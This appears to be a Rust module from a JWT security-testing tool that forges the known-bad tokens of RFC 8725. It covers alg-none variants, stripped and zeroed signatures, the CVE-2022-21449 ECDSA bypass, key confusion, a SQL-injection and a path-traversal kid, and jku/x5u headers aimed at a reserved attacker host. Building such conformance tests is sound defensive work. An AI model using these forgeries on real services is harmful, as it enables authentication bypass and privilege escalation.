//! The canonical bad tokens of F-JWT-5 (RFC 8725; the jwt_tool catalogue): each
//! [`JwtAttack`] turns the valid token of a spec into the one bad token its name
//! promises, changing nothing else, so a refusal can only be for that reason.

use std::fmt;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Map, Value, json};

use super::qsh;
use super::token::{MintRequest, SignError, Unsigned, b64};
use crate::auth::keys::{KeyError, KeyOwner, SigningKey, algorithm};
use crate::scenario::model::{Alg, JwtAttack};

/// Where `jku` and `x5u` point: a reserved TLD (RFC 2606), never resolvable.
pub const ATTACKER_ORIGIN: &str = "https://attacker.invalid";
/// `kid` of `kid-traversal`: a path to a file whose content (nothing) is the key.
pub const KID_TRAVERSAL: &str = "../../../../../../dev/null";
/// `kid` of `kid-injection`: SQL that makes a key lookup return [`KID_INJECTION_SECRET`].
pub const KID_INJECTION: &str = "x' UNION SELECT 'tollgate-injected';--";
pub const KID_INJECTION_SECRET: &str = "tollgate-injected";
/// `iss` of `wrong-issuer`.
pub const UNKNOWN_ISSUER: &str = "tollgate-unknown-issuer";
/// `aud` of `wrong-audience`.
pub const OTHER_AUDIENCE: &str = "someone-else";
/// How far `expired` and `not-yet-valid` move `exp`/`nbf`: far beyond the 30 s
/// leeway of F-JWT-2 and any sane clock skew.
pub const TIME_SHIFT_SECS: u64 = 3600;
/// The name of every key an attack makes up.
pub const ATTACKER_KEY_NAME: &str = "tollgate-attacker";

/// A bad token, and the key it was signed with when that is not the spec's key.
#[derive(Clone)]
pub struct Attacked {
    pub token: String,
    pub attacker_key: Option<SigningKey>,
}

/// Never prints the token: some are signed with the real key or secret
/// (`expired`, `unsupported-alg`) and would be accepted once the flaw is fixed.
impl fmt::Debug for Attacked {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Attacked")
            .field("attacker_key", &self.attacker_key)
            .finish_non_exhaustive()
    }
}

impl Attacked {
    fn plain(token: String) -> Self {
        Self {
            token,
            attacker_key: None,
        }
    }
}

/// Why a bad token could not be made. Messages name keys and algorithms, never
/// key material.
#[derive(Debug, thiserror::Error)]
pub enum AttackError {
    #[error("attack hs256-with-public-key needs an RS256 or ES256 key; '{key}' is {alg}")]
    NeedsPublicKey { key: String, alg: Alg },
    #[error("signature is not base64url: {0}")]
    SignatureNotBase64(base64::DecodeError),
    #[error("cannot put the attacker's key in the header: {0}")]
    Jwk(serde_json::Error),
    #[error(transparent)]
    Sign(#[from] SignError),
    #[error(transparent)]
    Key(#[from] KeyError),
}

/// Turns `valid` (the header and payload the spec asks for, signed with `key`)
/// into the bad token `attack` names; `request` and `now` are those of the mint.
pub fn apply(
    attack: JwtAttack,
    valid: &Unsigned,
    key: &SigningKey,
    request: &MintRequest<'_>,
    now: u64,
) -> Result<Attacked, AttackError> {
    match attack {
        // The signature: absent, empty, zeroed, or not the payload's.
        JwtAttack::AlgNone => Ok(Attacked::plain(unsigned_with_alg(valid, "none"))),
        JwtAttack::AlgNoneCase => Ok(Attacked::plain(unsigned_with_alg(valid, "nOnE"))),
        JwtAttack::StripSignature => Ok(Attacked::plain(valid.with_signature(""))),
        JwtAttack::NullSignature => null_signature(valid, key),
        JwtAttack::TamperPayload => tampered_payload(valid, key),
        JwtAttack::EcdsaZeroSignature => Ok(Attacked::plain(ecdsa_zero_signature(valid))),
        // The key: one the server must not trust, or must not use this way.
        JwtAttack::WrongKey => signed_by_other_key(valid, key),
        JwtAttack::Hs256WithPublicKey => hs256_with_public_key(valid, key),
        JwtAttack::UnsupportedAlg => hs512_with_server_secret(valid, key),
        JwtAttack::KidTraversal => with_kid_hmac(valid, KID_TRAVERSAL, Vec::new(), "kid-traversal"),
        JwtAttack::KidInjection => with_kid_hmac(
            valid,
            KID_INJECTION,
            KID_INJECTION_SECRET.as_bytes().to_vec(),
            "kid-injection",
        ),
        JwtAttack::JkuUntrusted => signed_by_attacker(valid, key, advertise_jku),
        JwtAttack::X5uUntrusted => signed_by_attacker(valid, key, advertise_x5u),
        JwtAttack::EmbeddedJwk => signed_by_attacker(valid, key, embed_jwk),
        // The claims: the real key, one claim changed.
        JwtAttack::Expired => with_claim(
            valid,
            key,
            "exp",
            json!(now.saturating_sub(TIME_SHIFT_SECS)),
        ),
        JwtAttack::NotYetValid => with_claim(
            valid,
            key,
            "nbf",
            json!(now.saturating_add(TIME_SHIFT_SECS)),
        ),
        JwtAttack::MissingIat => without_claim(valid, key, "iat"),
        JwtAttack::MissingExp => without_claim(valid, key, "exp"),
        JwtAttack::StringExp => with_claim(valid, key, "exp", string_exp(valid, now)),
        JwtAttack::WrongQsh => with_claim(valid, key, "qsh", json!(other_method_qsh(request))),
        JwtAttack::ContextQsh => with_claim(valid, key, "qsh", json!("context-qsh")),
        JwtAttack::WrongIssuer => with_claim(valid, key, "iss", json!(UNKNOWN_ISSUER)),
        JwtAttack::WrongAudience => with_claim(valid, key, "aud", json!(OTHER_AUDIENCE)),
    }
}

/// `token` signed by the real key under the real key's algorithm.
fn sign_real(token: &Unsigned, key: &SigningKey) -> Result<String, SignError> {
    token.sign(key.encoding_key(), algorithm(key.alg()))
}

/// As many zero bytes as a real signature has, so only the content is wrong.
fn null_signature(valid: &Unsigned, key: &SigningKey) -> Result<Attacked, AttackError> {
    let len = signature_len(&sign_real(valid, key)?)?;
    Ok(Attacked::plain(valid.with_signature(&b64(vec![0u8; len]))))
}

/// The real signature of `valid` on a payload whose `sub` became `admin` (the
/// point of tampering: privilege escalation), or another user if it already was.
fn tampered_payload(valid: &Unsigned, key: &SigningKey) -> Result<Attacked, AttackError> {
    let signature = signature_of(&sign_real(valid, key)?);
    let mut tampered = valid.clone();
    let sub = match tampered.payload.get("sub") {
        Some(Value::String(s)) if s == "admin" => "tollgate-tampered",
        _ => "admin",
    };
    tampered.payload.insert("sub".into(), json!(sub));
    Ok(Attacked::plain(tampered.with_signature(&signature)))
}

/// CVE-2022-21449: r = s = 0, 32 zero bytes each in the JWS (r || s) form.
fn ecdsa_zero_signature(valid: &Unsigned) -> String {
    with_alg(valid, "ES256").with_signature(&b64([0u8; 64]))
}

/// The same header and payload, signed by a key of the same algorithm that the
/// server does not know.
fn signed_by_other_key(valid: &Unsigned, key: &SigningKey) -> Result<Attacked, AttackError> {
    let other = attacker_key(key.alg())?;
    let token = valid.sign(other.encoding_key(), algorithm(key.alg()))?;
    Ok(Attacked {
        token,
        attacker_key: Some(other),
    })
}

/// The classic key confusion: a verifier that passes "the key" (the PEM text) to
/// an HMAC check when the token says HS256 (RFC 8725 §2.1).
fn hs256_with_public_key(valid: &Unsigned, key: &SigningKey) -> Result<Attacked, AttackError> {
    let pem = key
        .public_pem()
        .ok_or_else(|| AttackError::NeedsPublicKey {
            key: key.name().to_string(),
            alg: key.alg(),
        })?;
    let secret = SigningKey::from_secret(ATTACKER_KEY_NAME, pem.as_bytes().to_vec());
    let token = with_alg(valid, "HS256").sign(secret.encoding_key(), Algorithm::HS256)?;
    Ok(Attacked {
        token,
        attacker_key: Some(secret),
    })
}

/// HS512 keyed with what the server holds: the shared secret, or the public key's
/// PEM for an asymmetric key. A server that accepted HS512 would take it; F-JWT-1
/// says it must not.
fn hs512_with_server_secret(valid: &Unsigned, key: &SigningKey) -> Result<Attacked, AttackError> {
    let secret = match key.secret() {
        Some(secret) => secret.to_vec(),
        None => key.public_pem().unwrap_or_default().as_bytes().to_vec(),
    };
    let token =
        with_alg(valid, "HS512").sign(&EncodingKey::from_secret(&secret), Algorithm::HS512)?;
    Ok(Attacked {
        token,
        // Its secret is what signed the token (under HS512).
        attacker_key: Some(SigningKey::from_secret(ATTACKER_KEY_NAME, secret)),
    })
}

fn advertise_jku(header: &mut Map<String, Value>, _: &SigningKey) -> Result<(), AttackError> {
    header.insert(
        "jku".into(),
        json!(format!("{ATTACKER_ORIGIN}/.well-known/jwks.json")),
    );
    Ok(())
}

fn advertise_x5u(header: &mut Map<String, Value>, _: &SigningKey) -> Result<(), AttackError> {
    header.insert("x5u".into(), json!(format!("{ATTACKER_ORIGIN}/cert.pem")));
    Ok(())
}

fn embed_jwk(header: &mut Map<String, Value>, attacker: &SigningKey) -> Result<(), AttackError> {
    let jwk = serde_json::to_value(attacker.jwk()?).map_err(AttackError::Jwk)?;
    header.insert("jwk".into(), jwk);
    Ok(())
}

/// The same header and payload, signed by the real key, with one claim changed.
fn with_claim(
    valid: &Unsigned,
    key: &SigningKey,
    name: &str,
    value: Value,
) -> Result<Attacked, AttackError> {
    let mut token = valid.clone();
    token.payload.insert(name.into(), value);
    Ok(Attacked::plain(sign_real(&token, key)?))
}

/// The same header and payload, signed by the real key, without one claim.
fn without_claim(valid: &Unsigned, key: &SigningKey, name: &str) -> Result<Attacked, AttackError> {
    let mut token = valid.clone();
    token.payload.remove(name);
    Ok(Attacked::plain(sign_real(&token, key)?))
}

/// `exp` as a string of its NumericDate (RFC 7519 wants a number).
fn string_exp(valid: &Unsigned, now: u64) -> Value {
    let exp = match valid.payload.get("exp") {
        Some(Value::Number(n)) => n.to_string(),
        Some(Value::String(s)) => s.clone(),
        _ => (now + 300).to_string(),
    };
    Value::String(exp)
}

/// The qsh of the same URL under another method: a GET token replayed as DELETE.
fn other_method_qsh(request: &MintRequest<'_>) -> String {
    let method = if request.method.eq_ignore_ascii_case("DELETE") {
        "GET"
    } else {
        "DELETE"
    };
    qsh::qsh(
        method,
        request.url.path(),
        request.url.query().unwrap_or(""),
        request.context_path,
    )
}

fn with_alg(valid: &Unsigned, alg: &str) -> Unsigned {
    let mut token = valid.clone();
    token.header.insert("alg".into(), json!(alg));
    token
}

/// `alg` set to a spelling of `none`, and no signature (RFC 7519 §6).
fn unsigned_with_alg(valid: &Unsigned, alg: &str) -> String {
    with_alg(valid, alg).with_signature("")
}

fn signature_of(token: &str) -> String {
    token.rsplit('.').next().unwrap_or_default().to_string()
}

/// Bytes in the signature of a token we just signed (so it is valid base64url).
fn signature_len(token: &str) -> Result<usize, AttackError> {
    URL_SAFE_NO_PAD
        .decode(signature_of(token))
        .map(|bytes| bytes.len())
        .map_err(AttackError::SignatureNotBase64)
}

/// A key the server does not know. Shared by the process (see
/// [`SigningKey::generate_shared`]): it only has to differ from the scenario's
/// keys, which [`KeyOwner::Attacker`] guarantees.
fn attacker_key(alg: Alg) -> Result<SigningKey, KeyError> {
    SigningKey::generate_shared(KeyOwner::Attacker, ATTACKER_KEY_NAME, alg)
}

/// HS256 under a `kid` that makes a naive key lookup return `secret`.
fn with_kid_hmac(
    valid: &Unsigned,
    kid: &str,
    secret: Vec<u8>,
    name: &str,
) -> Result<Attacked, AttackError> {
    let mut token = with_alg(valid, "HS256");
    token.header.insert("kid".into(), json!(kid));
    let secret = SigningKey::from_secret(name, secret);
    Ok(Attacked {
        token: token.sign(secret.encoding_key(), Algorithm::HS256)?,
        attacker_key: Some(secret),
    })
}

/// Signed with a key the attacker just made (RS256 if the real key is a secret,
/// since `jku`, `x5u` and `jwk` publish public keys), named by `kid`, advertised
/// in the header by `advertise`.
fn signed_by_attacker(
    valid: &Unsigned,
    key: &SigningKey,
    advertise: impl FnOnce(&mut Map<String, Value>, &SigningKey) -> Result<(), AttackError>,
) -> Result<Attacked, AttackError> {
    let alg = match key.alg() {
        Alg::HS256 => Alg::RS256,
        other => other,
    };
    let attacker = attacker_key(alg)?;
    let mut token = with_alg(valid, alg.name());
    token.header.insert("kid".into(), json!(ATTACKER_KEY_NAME));
    advertise(&mut token.header, &attacker)?;
    Ok(Attacked {
        token: token.sign(attacker.encoding_key(), algorithm(alg))?,
        attacker_key: Some(attacker),
    })
}
